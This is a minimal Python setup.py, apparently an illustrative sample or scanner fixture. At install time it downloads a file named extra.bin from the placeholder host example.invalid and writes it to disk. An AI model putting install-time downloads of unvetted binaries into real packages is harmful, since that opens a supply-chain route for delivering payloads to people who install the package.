import requests
from setuptools import setup

open("extra.bin", "wb").write(requests.get("https://example.invalid/extra.bin").content)
setup(name="sample")
